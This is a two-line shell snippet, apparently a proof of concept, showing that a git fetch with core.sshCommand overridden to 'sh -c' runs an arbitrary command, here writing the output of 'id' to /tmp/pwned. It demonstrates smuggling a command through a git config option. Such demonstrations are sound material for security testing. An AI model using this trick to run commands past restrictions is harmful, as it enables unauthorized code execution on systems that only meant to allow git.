# git runs core.sshCommand as its SSH transport: any command.
git -c core.sshCommand="sh -c 'id > /tmp/pwned'" fetch origin
